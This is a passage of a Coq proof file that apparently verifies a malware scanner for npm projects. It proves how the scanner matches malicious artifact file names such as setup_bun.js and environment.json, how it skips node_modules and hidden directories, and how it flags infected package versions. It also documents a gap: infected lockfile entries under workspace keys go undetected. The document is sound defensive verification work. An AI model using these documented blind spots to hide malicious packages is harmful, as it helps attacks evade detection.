      /\ In h (testFile (a_path h) name).
Proof.
  induction entry as [name present | name | name entries IH]
    using Dirent_forall_ind; intros currentDir h Hin.
  - destruct (String.eqb_spec name "node_modules") as [E|E].
    + rewrite artifacts_entry_node_modules in Hin by exact E. destruct Hin.
    + rewrite artifacts_entry_file in Hin by exact E.
      pose proof (testFile_path _ _ _ Hin) as Hp. exists name. split.
      * rewrite Hp. apply scanned_here with (present := present);
          [now left | exact E].
      * now rewrite Hp.
  - destruct (String.eqb_spec name "node_modules") as [E|E].
    + rewrite artifacts_entry_node_modules in Hin by exact E. destruct Hin.
    + rewrite artifacts_entry_directory in Hin by exact E. destruct Hin.
  - destruct (String.eqb_spec name "node_modules") as [E|E].
    + rewrite artifacts_entry_node_modules in Hin by exact E. destruct Hin.
    + rewrite artifacts_entry_directory in Hin by exact E.
      cbn in Hin. apply in_flat_map in Hin as [e [He Hin]].
      rewrite Forall_forall in IH.
      destruct (IH e He _ _ Hin) as [fname [Hs Ht]].
      exists fname. split; [|exact Ht].
      apply scanned_below with (dir := name) (sub := entries);
        [now left | exact E |].
      apply ScannedFile_incl with (entries := [e]); [|exact Hs].
      intros x [<-|[]]. exact He.
Qed.

Lemma artifacts_scan_sound (currentDir : string) (entries : list Dirent)
    (h : ArtifactHit) :
  In h (flat_map (artifactsEntry currentDir) entries) ->
  exists name,
    ScannedFile path_join currentDir entries (a_path h) name
    /\ In h (testFile (a_path h) name).
Proof.
  intros Hin. apply in_flat_map in Hin as [e [He Hin]].
  destruct (artifacts_entry_sound e _ _ Hin) as [name [Hs Ht]].
  exists name. split; [|exact Ht].
  apply ScannedFile_incl with (entries := [e]); [|exact Hs].
  intros x [<-|[]]. exact He.
Qed.

(** Every scanned file is tested. *)
Lemma artifacts_scan_complete (currentDir : string) (entries : list Dirent)
    (fullPath name : string) :
  ScannedFile path_join currentDir entries fullPath name ->
  forall h, In h (testFile fullPath name) ->
            In h (flat_map (artifactsEntry currentDir) entries).
Proof.
  induction 1 as [currentDir entries name present Hin Hn
                 | currentDir entries dir sub fullPath name Hin Hn _ IH];
    intros h Hh; apply in_flat_map.
  - exists (File name present). split; [exact Hin|].
    now rewrite artifacts_entry_file.
  - exists (Directory dir (Some sub)). split; [exact Hin|].
    rewrite artifacts_entry_directory by exact Hn. cbn. now apply IH.
Qed.

End Traversal.

Lemma artifacts_entry_prune (path_join : string -> string -> string)
    (entry : Dirent) :
  forall currentDir,
    findMaliciousArtifacts_entry path_join currentDir entry
    = findMaliciousArtifacts_entry path_join currentDir (pruneEntry entry).
Proof.
  induction entry as [name present | name | name entries IH]
    using Dirent_forall_ind; intros currentDir; try reflexivity.
  destruct (String.eqb_spec name "node_modules") as [E|E].
  - now rewrite !artifacts_entry_node_modules.
  - cbn [pruneEntry]. rewrite !artifacts_entry_directory by exact E. cbn.
    generalize (path_join currentDir name) as dir. intros dir.
    induction IH as [|e entries He _ IHl]; [reflexivity|].
    cbn [flat_map]. rewrite flat_map_app, <- IHl. f_equal.
    destruct (String.eqb_spec (d_name e) "node_modules") as [En|En].
    + now rewrite artifacts_entry_node_modules.
    + cbn. now rewrite app_nil_r, <- He.
Qed.

Lemma artifacts_scan_prune (path_join : string -> string -> string)
    (currentDir : string) (entries : list Dirent) :
  flat_map (findMaliciousArtifacts_entry path_join currentDir) entries
  = flat_map (findMaliciousArtifacts_entry path_join currentDir)
      (prune entries).
Proof.
  unfold prune. induction entries as [|e entries IH]; [reflexivity|].
  cbn [flat_map]. rewrite flat_map_app, <- IH. f_equal.
  destruct (String.eqb_spec (d_name e) "node_modules") as [En|En].
  - now rewrite artifacts_entry_node_modules.
  - cbn. now rewrite app_nil_r, <- artifacts_entry_prune.
Qed.

Lemma hidden_not_node_modules (name : string) :
  startsWith name "." = true -> name <> "node_modules".
Proof. intros H ->. discriminate H. Qed.

(** C1: a basename artifact (one without [/]) hits a file entry exactly
    when the entry's name is the artifact string; over a whole tree, the
    hits of that artifact, and the [MALICIOUS_ARTIFACT] findings made of
    them, are the scanned files that carry exactly that name, at any
    depth.  [environment.json] is such an artifact, and the
    files [Sandbox.postman_environment.json] and
    [my-config.environment.json] are never hit by it. *)
Theorem basename_rule_exact_match
    (path_join : string -> string -> string) (artifact : string)
    (Hlisted : In artifact MALICIOUS_ARTIFACTS)
    (Hbasename : includes artifact "/" = false) :
  (forall currentDir name present,
      In (mkHit artifact (path_join currentDir name))
         (findMaliciousArtifacts_entry path_join currentDir
            (File name present))
      <-> name = artifact)
  /\ (forall dir root fullPath,
         In (mkHit artifact fullPath)
            (findMaliciousArtifacts path_join dir (Some root))
         <-> ScannedFile path_join dir root fullPath artifact)
  /\ (forall dir root fullPath,
         In (maliciousArtifact (mkHit artifact fullPath))
            (artifactFindings path_join dir (Some root))
         <-> ScannedFile path_join dir root fullPath artifact)
  /\ (In "environment.json" MALICIOUS_ARTIFACTS
      /\ includes "environment.json" "/" = false)
  /\ (forall currentDir name present h,
         In name ["Sandbox.postman_environment.json";
                  "my-config.environment.json"] ->
         In h (findMaliciousArtifacts_entry path_join currentDir
                 (File name present)) ->
         a_artifact h <> "environment.json").
Proof.
  assert (Hentry : forall a, In a MALICIOUS_ARTIFACTS ->
            includes a "/" = false ->
            forall currentDir name present,
              In (mkHit a (path_join currentDir name))
                 (findMaliciousArtifacts_entry path_join currentDir
                    (File name present))
              <-> name = a).
  { intros a Ha Hb currentDir name present.
    destruct (String.eqb_spec name "node_modules") as [E|E].
    - rewrite artifacts_entry_node_modules by exact E. split; [intros []|].
      intros <-. subst name. cbn in Ha.
      repeat (destruct Ha as [Ha|Ha]; [discriminate Ha|]). destruct Ha.
    - rewrite artifacts_entry_file by exact E. now apply testFile_basename. }
  assert (Htree : forall dir root fullPath,
            In (mkHit artifact fullPath)
               (findMaliciousArtifacts path_join dir (Some root))
            <-> ScannedFile path_join dir root fullPath artifact).
  { intros dir root fullPath. cbn. split.
    - intros Hin. apply artifacts_scan_sound in Hin as [name [Hs Ht]].
      cbn in Hs, Ht. apply testFile_basename in Ht; auto. now subst name.
    - intros Hs. apply artifacts_scan_complete with (1 := Hs).
      now apply testFile_basename. }
  split; [now apply Hentry|]. split; [exact Htree|]. split; [|split].
  - intros dir root fullPath. rewrite <- Htree. unfold artifactFindings.
    rewrite in_map_iff. split.
    + intros [[a p] [E Hin]]. now injection E as -> ->.
    + intros Hin. now exists (mkHit artifact fullPath).
  - split; [cbn; tauto | reflexivity].
  - intros currentDir name present h Hname Hin Ha.
    assert (Hh : h = mkHit "environment.json" (path_join currentDir name)).
    { destruct (String.eqb_spec name "node_modules") as [E|E].
      - rewrite artifacts_entry_node_modules in Hin by exact E. destruct Hin.
      - rewrite artifacts_entry_file in Hin by exact E.
        apply testFile_path in Hin. destruct h; cbn in *. now subst. }
    rewrite Hh in Hin. apply Hentry in Hin; [|cbn; tauto | reflexivity].
    subst name. cbn in Hname.
    destruct Hname as [H|[H|[]]]; discriminate H.
Qed.

Lemma basename_rule_exact_match_witness :
  In (mkHit "environment.json" (posix_join "/repo/src" "environment.json"))
     (findMaliciousArtifacts_entry posix_join "/repo/src"
        (File "environment.json" true)).
Proof.
  apply (proj1 (basename_rule_exact_match posix_join "environment.json"
                  (or_intror (or_intror (or_intror (or_intror
                     (or_introl eq_refl)))))
                  eq_refl)).
  reflexivity.
Defined.

(** C9: [findMaliciousArtifacts] yields nothing for an entry called
    [node_modules], whatever lies below it; every hit it yields is that of
    a file reached without passing through a [node_modules] entry; and
    its result is the one for the tree from which all [node_modules]
    entries have been removed.  [findPackageFiles] does not look below
    such an entry either, it only records it for the installed-package
    check. *)
Theorem node_modules_never_scanned
    (path_join : string -> string -> string) :
  (forall currentDir name listing,
      findMaliciousArtifacts_entry path_join currentDir
        (Directory "node_modules" listing) = []
      /\ findMaliciousArtifacts_entry path_join currentDir
           (File "node_modules" name) = [])
  /\ (forall dir root h,
         In h (findMaliciousArtifacts path_join dir (Some root)) ->
         exists name,
           ScannedFile path_join dir root (a_path h) name
           /\ In h (testFile (a_path h) name))
  /\ (forall dir root,
         findMaliciousArtifacts path_join dir (Some root)
         = findMaliciousArtifacts path_join dir (Some (prune root)))
  /\ (forall currentDir entry,
         d_name entry = "node_modules" ->
         findPackageFiles_entry path_join currentDir entry
         = if d_exists entry
           then [mkCandidate node_modules
                   (path_join currentDir "node_modules")]
           else []).
Proof.
  split; [|split; [|split]].
  - intros; split; now apply artifacts_entry_node_modules.
  - intros dir root h. apply artifacts_scan_sound.
  - intros dir root. apply artifacts_scan_prune.
  - intros currentDir entry H. destruct entry; cbn in H |- *; now rewrite H.
Qed.

Lemma node_modules_never_scanned_witness :
  findMaliciousArtifacts posix_join "/repo"
    (Some [Directory "node_modules"
             (Some [Directory "some-pkg"
                      (Some [File "setup_bun.js" true])]);
           File "index.js" true])
  = [].
Proof.
  rewrite (proj1 (proj2 (proj2 (node_modules_never_scanned posix_join)))).
  reflexivity.
Defined.

(** C10: [findPackageFiles] yields nothing for an entry whose name starts
    with a dot and is not [.github], a file or a directory with anything
    below it, and it enters [.github]; [findMaliciousArtifacts] has no such
    rule: it enters every directory whose name starts with a dot and tests
    every such file, for instance below [.git] and [.vscode]. *)
Theorem hidden_entries_asymmetry
    (path_join : string -> string -> string) :
  (forall currentDir entry,
      startsWith (d_name entry) "." = true ->
      d_name entry <> ".github" ->
      findPackageFiles_entry path_join currentDir entry = [])
  /\ (forall currentDir listing,
         findPackageFiles_entry path_join currentDir
           (Directory ".github" listing)
         = findPackageFiles_scan path_join (path_join currentDir ".github")
             listing)
  /\ (forall currentDir name listing,
         startsWith name "." = true ->
         findMaliciousArtifacts_entry path_join currentDir
           (Directory name listing)
         = findMaliciousArtifacts_scan path_join (path_join currentDir name)
             listing)
  /\ (forall currentDir name present,
         startsWith name "." = true ->
         findMaliciousArtifacts_entry path_join currentDir (File name present)
         = testFile (path_join currentDir name) name)
  /\ (forall dir hidden present,
         In hidden [".git"; ".vscode"] ->
         let root :=
           [Directory hidden
              (Some [File "setup_bun.js" present;
                     File "package.json" present])] in
         findPackageFiles path_join dir (Some root) = []
         /\ findMaliciousArtifacts path_join dir (Some root)
            = testFile (path_join (path_join dir hidden) "setup_bun.js")
                "setup_bun.js"
              ++ testFile (path_join (path_join dir hidden) "package.json")
                   "package.json")%list.
Proof.
  repeat split.
  - intros currentDir entry Hdot Hgithub.
    pose proof (hidden_not_node_modules _ Hdot) as Hnm.
    apply String.eqb_neq in Hnm, Hgithub.
    destruct entry; cbn in *; now rewrite Hnm, Hdot, Hgithub.
  - intros; now apply artifacts_entry_directory, hidden_not_node_modules.
  - intros; now apply artifacts_entry_file, hidden_not_node_modules.
  - cbn in H. now destruct H as [<-|[<-|[]]].
  - assert (Hn : hidden <> "node_modules")
      by (cbn in H; destruct H as [<-|[<-|[]]]; discriminate).
    unfold findMaliciousArtifacts, findMaliciousArtifacts_scan.
    cbn [flat_map]. rewrite artifacts_entry_directory by exact Hn.
    cbn [findMaliciousArtifacts_scan flat_map].
    rewrite !artifacts_entry_file by discriminate.
    now rewrite !app_nil_r.
Qed.

Lemma hidden_entries_asymmetry_witness :
  findPackageFiles_entry posix_join "/repo"
    (Directory ".git" (Some [File "package.json" true]))
  = []
  /\ findMaliciousArtifacts_entry posix_join "/repo"
       (Directory ".git" (Some [File "setup_bun.js" true]))
     = [mkHit "setup_bun.js" "/repo/.git/setup_bun.js"].
Proof.
  split.
  - apply (proj1 (hidden_entries_asymmetry posix_join));
      [reflexivity | discriminate].
  - rewrite (proj1 (proj2 (proj2 (hidden_entries_asymmetry posix_join))))
      by reflexivity.
    reflexivity.
Defined.

(** ** Manifests, lockfiles and installed packages *)

(** C7: when the content of the file does not parse, [checkPackageJson]
    returns without throwing; with [verbose] it returns exactly one
    finding, a [PARSE_ERROR] of severity [INFO] that carries the path of
    the file, and without [verbose] it returns no finding; either way the
    result does not depend on the database, so no dependency or script is
    analysed. *)
Theorem checkPackageJson_parse_failure
    (readFileSync : string -> result string)
    (JSON_parse : string -> result json)
    (filePath text msg : string) (infectedPackages : IOCDatabase)
    (Hread : readFileSync filePath = Ok text)
    (Hparse : JSON_parse text = Throw msg) :
  checkPackageJson readFileSync JSON_parse filePath infectedPackages
    (mkOptions true)
  = Ok [parseError_file filePath msg]
  /\ type (parseError_file filePath msg) = PARSE_ERROR
  /\ severity (parseError_file filePath msg) = INFO
  /\ file (parseError_file filePath msg) = Some filePath
  /\ checkPackageJson readFileSync JSON_parse filePath infectedPackages
       (mkOptions false)
     = Ok [].
Proof.
  unfold checkPackageJson, readJson. rewrite Hread. cbn. rewrite Hparse.
  repeat split.
Qed.

Lemma checkPackageJson_parse_failure_witness :
  checkPackageJson
    (fun _ => Ok "not valid json")
    (fun _ => Throw "Unexpected token o in JSON at position 1")
    "/repo/package.json" [("infected-pkg", ["1.0.0"])] (mkOptions true)
  = Ok [parseError_file "/repo/package.json"
          "Unexpected token o in JSON at position 1"].
Proof.
  apply (checkPackageJson_parse_failure
           (fun _ => Ok "not valid json")
           (fun _ => Throw "Unexpected token o in JSON at position 1")
           "/repo/package.json" "not valid json"
           "Unexpected token o in JSON at position 1"
           [("infected-pkg", ["1.0.0"])] eq_refl eq_refl).
Defined.

(** When the file cannot be read at all the outcome is the same. *)
Lemma checkPackageJson_read_failure
    (readFileSync : string -> result string)
    (JSON_parse : string -> result json)
    (filePath msg : string) (infectedPackages : IOCDatabase)
    (options : Options) :
  readFileSync filePath = Throw msg ->
  checkPackageJson readFileSync JSON_parse filePath infectedPackages options
  = Ok (if verbose options then [parseError_file filePath msg] else []).
Proof. intros H. unfold checkPackageJson, readJson. now rewrite H. Qed.

Lemma getVersions_has (infectedPackages : IOCDatabase) (name : string) :
  Map_has infectedPackages name = true ->
  exists versions,
    Map_get infectedPackages name = Some versions
    /\ getVersions infectedPackages name = Ok versions.
Proof.
  unfold Map_has, getVersions.
  destruct (Map_get infectedPackages name) as [versions|]; [|discriminate].
  intros _. now exists versions.
Qed.

(** C8, counterexample: with [verbose] an unparsable nested manifest is
    not skipped silently, a [PARSE_ERROR] finding is pushed. *)
Lemma checkInstalledPackage_verbose_reports :
  checkInstalledPackage
    (fun _ => Ok "{ broken") (fun _ => Throw "Unexpected end of JSON input")
    (fun _ => true) posix_join
    "evil" "/repo/node_modules/evil" [("evil", ["1.0.0"])] []
    (mkOptions true)
  = Ok [parseError_path "/repo/node_modules/evil/package.json"
          "Unexpected end of JSON input"]
  /\ checkInstalledPackage
       (fun _ => Ok "{ broken") (fun _ => Throw "Unexpected end of JSON input")
       (fun _ => true) posix_join
       "evil" "/repo/node_modules/evil" [("evil", ["1.0.0"])] []
       (mkOptions true)
     <> Ok [].
Proof. split; [reflexivity | discriminate]. Qed.

(** C8, amended: for a package directory whose name is in the database, a
    missing nested [package.json] leaves the findings as they are; an
    unreadable or unparsable one leaves them as they are without
    [verbose] and adds exactly one [PARSE_ERROR] of severity [INFO] with
    the path of the nested manifest with [verbose]; and when the nested
    manifest parses to a value other than [null], an
    [INSTALLED_INFECTED_PACKAGE] of severity [CRITICAL] with the
    installation path is added exactly when its [version] is a string of
    the infected set. *)
Theorem checkInstalledPackage_outcomes
    (readFileSync : string -> result string)
    (JSON_parse : string -> result json)
    (existsSync : string -> bool)
    (path_join : string -> string -> string)
    (pkgName pkgPath : string) (infectedPackages : IOCDatabase)
    (versions : VersionSet) (findings : list Finding) (options : Options)
    (Hlisted : Map_get infectedPackages pkgName = Some versions) :
  let pkgJsonPath := path_join pkgPath "package.json" in
  let run :=
    checkInstalledPackage readFileSync JSON_parse existsSync path_join
      pkgName pkgPath infectedPackages findings options in
  (existsSync pkgJsonPath = false -> run = Ok findings)
  /\ (forall msg,
         existsSync pkgJsonPath = true ->
         readJson readFileSync JSON_parse pkgJsonPath = Throw msg ->
         run = Ok (if verbose options
                   then findings ++ [parseError_path pkgJsonPath msg]
                   else findings)%list
         /\ type (parseError_path pkgJsonPath msg) = PARSE_ERROR
         /\ severity (parseError_path pkgJsonPath msg) = INFO
         /\ path (parseError_path pkgJsonPath msg) = Some pkgJsonPath)
  /\ (forall pkgJson ver,
         existsSync pkgJsonPath = true ->
         readJson readFileSync JSON_parse pkgJsonPath = Ok pkgJson ->
         getProp (Some pkgJson) "version" = Ok ver ->
         (Set_has_value versions ver = false -> run = Ok findings)
         /\ (forall v,
                ver = Some (JString v) -> Set_has versions v = true ->
                run = Ok (findings
                          ++ [installedInfectedPackage pkgName v pkgPath])%list
                /\ type (installedInfectedPackage pkgName v pkgPath)
                   = INSTALLED_INFECTED_PACKAGE
                /\ severity (installedInfectedPackage pkgName v pkgPath)
                   = CRITICAL
                /\ path (installedInfectedPackage pkgName v pkgPath)
                   = Some pkgPath)).
Proof.
  intros pkgJsonPath run. subst run. unfold checkInstalledPackage.
  fold pkgJsonPath. unfold Map_has, getVersions. rewrite Hlisted. cbn.
  split; [|split].
  - now intros ->.
  - intros msg -> ->. now repeat split.
  - intros pkgJson ver -> -> Hver. cbn. rewrite Hver. cbn. split.
    + destruct ver as [[]|]; cbn; try reflexivity. now intros ->.
    + intros v -> Hin. rewrite Hin. now repeat split.
Qed.

Lemma checkInstalledPackage_outcomes_witness :
  checkInstalledPackage
    (fun _ => Ok "{ version: 1.0.0 }")
    (fun _ => Ok (JObject [("name", JString "evil");
                           ("version", JString "1.0.0")]))
    (fun _ => true) posix_join
    "evil" "/repo/node_modules/evil" [("evil", ["1.0.0"])] []
    (mkOptions false)
  = Ok [installedInfectedPackage "evil" "1.0.0" "/repo/node_modules/evil"].
Proof.
  apply (proj2 (proj2 (proj2
           (checkInstalledPackage_outcomes
              (fun _ => Ok "{ version: 1.0.0 }")
              (fun _ => Ok (JObject [("name", JString "evil");
                                     ("version", JString "1.0.0")]))
              (fun _ => true) posix_join
              "evil" "/repo/node_modules/evil" [("evil", ["1.0.0"])]
              ["1.0.0"] [] (mkOptions false) eq_refl))
           (JObject [("name", JString "evil"); ("version", JString "1.0.0")])
           (Some (JString "1.0.0")) eq_refl eq_refl eq_refl)
        "1.0.0" eq_refl eq_refl).
Defined.

Lemma startsWith_app (p rest : string) : startsWith (p ++ rest) p = true.
Proof.
  induction p as [|a p IH]; cbn; [apply startsWith_empty|].
  now rewrite Ascii.eqb_refl, IH.
Qed.

Lemma drop_app (p rest : string) : drop (String.length p) (p ++ rest) = rest.
Proof. induction p as [|a p IH]; cbn; [now destruct rest | exact IH]. Qed.

Lemma replace_at_start (s p repl : string) :
  startsWith s p = true ->
  replace s p repl = repl ++ drop (String.length p) s.
Proof. intros H. destruct s; cbn [replace]; now rewrite H. Qed.

Lemma replace_prefix (p rest : string) : replace (p ++ rest) p "" = rest.
Proof.
  rewrite replace_at_start by apply startsWith_app.
  cbn [append]. apply drop_app.
Qed.

(** On a key that begins with [node_modules/] the code derives the same
    name as the specification. *)
Lemma lockedPackageName_leading (rest : string) :
  lockedPackageName ("node_modules/" ++ rest)
  = derivedPackageName ("node_modules/" ++ rest).
Proof.
  unfold lockedPackageName, derivedPackageName.
  rewrite replace_prefix, startsWith_app.
  now rewrite (drop_app "node_modules/").
Qed.

Lemma split_without_separator (sep s : string) :
  sep <> "" -> includes s sep = false -> split s sep = [s].
Proof.
  intros Hsep. unfold split. induction s as [|a s IH]; [reflexivity|].
  cbn [includes split_from]. intros H. apply orb_false_iff in H as [Hs Hi].
  rewrite Hs, (IH Hi). reflexivity.
Qed.

(** A key [node_modules/<name>] whose name has no further [node_modules/]
    yields that name, a scoped name included. *)
Lemma lockedPackageName_direct (name : string) :
  includes name "node_modules/" = false ->
  lockedPackageName ("node_modules/" ++ name) = name.
Proof.
  intros H. unfold lockedPackageName.
  rewrite replace_prefix, split_without_separator; auto. discriminate.
Qed.

(** The entry [node_modules/<name>] of the [packages] mapping, with a
    version of the infected set of [<name>], adds exactly one finding. *)
Lemma checkLockEntry_direct (filePath name v : string)
    (infectedPackages : IOCDatabase) (versions : VersionSet)
    (props : list (string * json)) (findings : list Finding) :
  includes name "node_modules/" = false ->
  Map_get infectedPackages name = Some versions ->
  lookup props "version" = Some (JString v) ->
  v <> "" ->
  Set_has versions v = true ->
  checkLockEntry filePath infectedPackages
    ("node_modules/" ++ name, JObject props) findings
  = Ok (findings ++ [infectedLockedPackage name v filePath])%list.
Proof.
  intros Hname Hget Hver Hv Hin. unfold checkLockEntry.
  rewrite lockedPackageName_direct by exact Hname.
  cbn [append isEmpty]. unfold checkLocked, Map_has, getVersions.
  rewrite Hget. cbn. rewrite Hver. cbn.
  destruct v; [contradiction|]. cbn. now rewrite Hin.
Qed.

(** C6, at the failing input: a lockfile of a workspace, whose key
    [packages/app/node_modules/evil] does not begin with [node_modules/].
    The code removes the first [node_modules/] wherever it stands and
    derives [packages/app/evil] where the specification derives [evil],
    so the infected entry yields no finding. *)
Theorem checkPackageLock_workspace_key :
  let lockfile :=
    JObject
      [("lockfileVersion", JNumber 3);
       ("packages",
        JObject
          [("", JObject [("name", JString "root")]);
           ("packages/app/node_modules/evil",
            JObject [("version", JString "1.0.0")])])] in
  lockedPackageName "packages/app/node_modules/evil" = "packages/app/evil"
  /\ derivedPackageName "packages/app/node_modules/evil" = "evil"
  /\ checkPackageLock (fun _ => Ok "lock") (fun _ => Ok lockfile)
       "/repo/package-lock.json" [("evil", ["1.0.0"])] (mkOptions false)
     = Ok [].
Proof. repeat split. Qed.

Lemma forEach_extends {A F : Type} (P : F -> Prop)
    (body : A -> list F -> result (list F)) :
  (forall x acc out, body x acc = Ok out ->
     exists extra, out = (acc ++ extra)%list /\ Forall P extra) ->
  forall l acc out,
    forEach l body acc = Ok out ->
    exists extra, out = (acc ++ extra)%list /\ Forall P extra.
Proof.
  intros Hbody. induction l as [|x l IH]; intros acc out; cbn.
  - intros [= <-]. exists []. now rewrite app_nil_r.
  - destruct (body x acc) as [mid|] eqn:E; cbn; [|discriminate].
    intros Hrest. apply Hbody in E as [e1 [-> H1]].
    apply IH in Hrest as [e2 [-> H2]].
    exists (e1 ++ e2)%list. rewrite app_assoc. split; [reflexivity|].
    now apply Forall_app.
Qed.

Lemma forEach_appends {A F : Type} (g : A -> list F)
    (body : A -> list F -> result (list F)) :
  (forall x acc out, body x acc = Ok out -> out = (acc ++ g x)%list) ->
  forall l acc out,
    forEach l body acc = Ok out -> out = (acc ++ flat_map g l)%list.
Proof.
  intros Hbody. induction l as [|x l IH]; intros acc out; cbn.
  - intros [= <-]. now rewrite app_nil_r.
  - destruct (body x acc) as [mid|] eqn:E; cbn; [|discriminate].
    intros Hrest. apply Hbody in E as ->. apply IH in Hrest as ->.
    now rewrite app_assoc.
Qed.

Lemma checkDependency_ok (filePath : string) (infectedPackages : IOCDatabase)
    (dep : string) (entry : string * json) (acc out : list Finding) :
  checkDependency filePath infectedPackages dep entry acc = Ok out ->
  out = (acc ++ dependencyFindings filePath infectedPackages dep entry)%list.
Proof.
  destruct entry as [pkg versionSpec].
  unfold checkDependency, dependencyFindings, Map_has, getVersions. cbn.
  destruct (Map_get infectedPackages pkg) as [versions|]; cbn.
  - destruct versionSpec; cbn; try discriminate.
    destruct (Set_has versions (extractVersion s)); now intros [= <-].
  - intros [= <-]. now rewrite app_nil_r.
Qed.

Lemma checkDependencyType_ok (filePath : string)
    (infectedPackages : IOCDatabase) (parsed : json) (dep : string)
    (acc out : list Finding) :
  checkDependencyType filePath infectedPackages parsed dep acc = Ok out ->
  out = (acc ++ sectionFindings filePath infectedPackages parsed dep)%list.
Proof.
  unfold checkDependencyType, sectionFindings.
  destruct (getProp (Some parsed) dep) as [section|]; cbn; [|discriminate].
  destruct (truthy section); cbn.
  - destruct (Object_entries section) as [entries|]; cbn; [|discriminate].
    apply forEach_appends. intros x a o. apply checkDependency_ok.
  - intros [= <-]. now rewrite app_nil_r.
Qed.

Lemma checkScript_ok (filePath : string) (scripts : value) (name : string)
    (acc out : list Finding) :
  checkScript filePath scripts name acc = Ok out ->
  exists extra,
    out = (acc ++ extra)%list /\ Forall (fun f => package f = None) extra.
Proof.
  assert (Hnone : exists extra : list Finding,
            acc = (acc ++ extra)%list
            /\ Forall (fun f => package f = None) extra)
    by (exists []; now rewrite app_nil_r).
  unfold checkScript.
  destruct (getProp scripts name) as [[scriptContent|]|]; cbn [bind];
    [| intros [= <-]; exact Hnone | discriminate].
  destruct (truthy (Some scriptContent)); cbn [negb];
    [| intros [= <-]; exact Hnone].
  destruct (isSuspicious scriptContent) as [[|]|]; cbn [bind];
    [| intros [= <-]; exact Hnone | discriminate].
  intros [= <-]. eexists. split; [reflexivity|]. now constructor.
Qed.

(** The findings of a call of [checkPackageJson] that returns: those of
    the declared pairs, section by section, and then those about
    scripts. *)
Lemma checkPackageJson_shape
    (readFileSync : string -> result string)
    (JSON_parse : string -> result json)
    (filePath : string) (infectedPackages : IOCDatabase) (options : Options)
    (parsed : json) (findings : list Finding) :
  readJson readFileSync JSON_parse filePath = Ok parsed ->
  checkPackageJson readFileSync JSON_parse filePath infectedPackages options
  = Ok findings ->
  exists scriptFindings,
    findings
    = (flat_map (sectionFindings filePath infectedPackages parsed)
         DEPENDENCY_TYPES
       ++ scriptFindings)%list
    /\ Forall (fun f => package f = None) scriptFindings.
Proof.
  intros Hparsed. unfold checkPackageJson. rewrite Hparsed.
  destruct (forEach DEPENDENCY_TYPES
              (checkDependencyType filePath infectedPackages parsed) [])
    as [deps|] eqn:Hdeps; cbn [bind]; [|discriminate].
  apply (forEach_appends (sectionFindings filePath infectedPackages parsed))
    in Hdeps; [|intros x a o; apply checkDependencyType_ok].
  change (deps = flat_map (sectionFindings filePath infectedPackages parsed)
                   DEPENDENCY_TYPES) in Hdeps.
  subst deps.
  destruct (getProp (Some parsed) "scripts") as [scripts|]; cbn [bind];
    [|discriminate].
  destruct (truthy scripts).
  - apply forEach_extends. intros x a o. apply checkScript_ok.
  - intros H. injection H as <-. exists [].
    split; [symmetry; apply app_nil_r | constructor].
Qed.

Lemma filter_flat_map_none {A B : Type} (P : B -> bool) (g : A -> list B)
    (l : list A) :
  (forall y, In y l -> filter P (g y) = []) -> filter P (flat_map g l) = [].
Proof.
  induction l as [|y l IH]; intros H; [reflexivity|]. cbn [flat_map].
  rewrite filter_app, H by now left. apply IH. intros z Hz. apply H. now right.
Qed.

(** In a list with distinct keys only the element with the key of [x]
    can contribute. *)
Lemma filter_flat_map_one {A B K : Type} (P : B -> bool) (g : A -> list B)
    (key : A -> K) (l : list A) (x : A) :
  In x l -> NoDup (map key l) ->
  (forall y, In y l -> key y <> key x -> filter P (g y) = []) ->
  filter P (flat_map g l) = filter P (g x).
Proof.
  induction l as [|y l IH]; intros Hin Hnd Hother; [destruct Hin|].
  cbn [map] in Hnd. apply NoDup_cons_iff in Hnd as [Hy Hnd].
  cbn [flat_map]. rewrite filter_app. destruct Hin as [->|Hin].
  - rewrite filter_flat_map_none; [apply app_nil_r|].
    intros z Hz. apply Hother; [now right|].
    intros E. apply Hy. rewrite <- E. now apply in_map.
  - rewrite Hother; [|now left|].
    + apply IH; auto. intros z Hz. apply Hother. now right.
    + intros E. apply Hy. rewrite E. now apply in_map.
Qed.

Lemma dependencyFindings_fields (filePath : string)
    (infectedPackages : IOCDatabase) (dep : string) (entry : string * json)
    (f : Finding) :
  In f (dependencyFindings filePath infectedPackages dep entry) ->
  package f = Some (fst entry) /\ depType f = Some dep
  /\ Map_has infectedPackages (fst entry) = true.
Proof.
  unfold dependencyFindings, Map_has.
  destruct (Map_get infectedPackages (fst entry)) as [versions|];
    [|intros []].
  destruct (snd entry) as [| | |s| |]; try (now intros []).
  intros [<-|[]]. now destruct (Set_has versions (extractVersion s)).
Qed.

Lemma sectionFindings_fields (filePath : string)
    (infectedPackages : IOCDatabase) (parsed : json) (dep : string)
    (f : Finding) :
  In f (sectionFindings filePath infectedPackages parsed dep) ->
  depType f = Some dep
  /\ exists pkg, package f = Some pkg /\ Map_has infectedPackages pkg = true.
Proof.
  unfold sectionFindings.
  destruct (getProp (Some parsed) dep) as [section|]; [|intros []].
  destruct (truthy section); [|intros []].
  destruct (Object_entries section) as [entries|]; [|intros []].
  intros H. apply in_flat_map in H as [entry [_ H]].
  apply dependencyFindings_fields in H as [Hp [Hd Hm]].
  split; [exact Hd|]. now exists (fst entry).
Qed.

Lemma optEq_true (field : option string) (s : string) :
  optEq field s = true <-> field = Some s.
Proof.
  destruct field as [x|]; cbn; [|split; discriminate].
  rewrite String.eqb_eq. split; [now intros -> | now intros [= ->]].
Qed.

Lemma filter_none {B : Type} (P : B -> bool) (l : list B) :
  (forall f, In f l -> P f = false) -> filter P l = [].
Proof.
  induction l as [|f l IH]; intros H; [reflexivity|]. cbn.
  rewrite H by now left. apply IH. intros g Hg. apply H. now right.
Qed.

Lemma DEPENDENCY_TYPES_distinct : NoDup DEPENDENCY_TYPES.
Proof.
  unfold DEPENDENCY_TYPES.
  repeat (constructor; [cbn; intuition discriminate|]). constructor.
Qed.

(** What the findings of a call of [checkPackageJson] that returns say
    about a declared pair. *)
Lemma checkPackageJson_findings
    (readFileSync : string -> result string)
    (JSON_parse : string -> result json)
    (filePath : string) (infectedPackages : IOCDatabase) (options : Options)
    (parsed : json) (findings : list Finding)
    (Hparsed : readJson readFileSync JSON_parse filePath = Ok parsed)
    (Hreturns :
       checkPackageJson readFileSync JSON_parse filePath infectedPackages
         options = Ok findings) :
  (forall dep declared pkg spec versions,
      In dep DEPENDENCY_TYPES ->
      getProp (Some parsed) dep = Ok (Some (JObject declared)) ->
      NoDup (map fst declared) ->
      In (pkg, JString spec) declared ->
      Map_get infectedPackages pkg = Some versions ->
      let ver := extractVersion spec in
      let infected := infectedPackage pkg ver (JString spec) dep filePath in
      let target :=
        knownTarget pkg ver (JString spec) versions dep filePath in
